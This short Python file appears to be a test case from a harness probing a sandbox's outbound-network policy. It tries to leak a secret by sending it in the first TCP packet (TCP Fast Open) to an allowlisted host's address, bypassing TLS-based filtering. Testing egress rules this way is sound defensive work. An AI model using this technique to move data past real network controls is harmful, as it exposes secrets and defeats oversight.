# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: bytes that are not TLS go with the first packet to an allowed name's address
# proof: word
# needs: resolver
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    out = socket.socket()
    out.sendto(SECRET.encode(), socket.MSG_FASTOPEN, place)
    return out


@attempt
def send():
    return at_allowed(say, first=False)
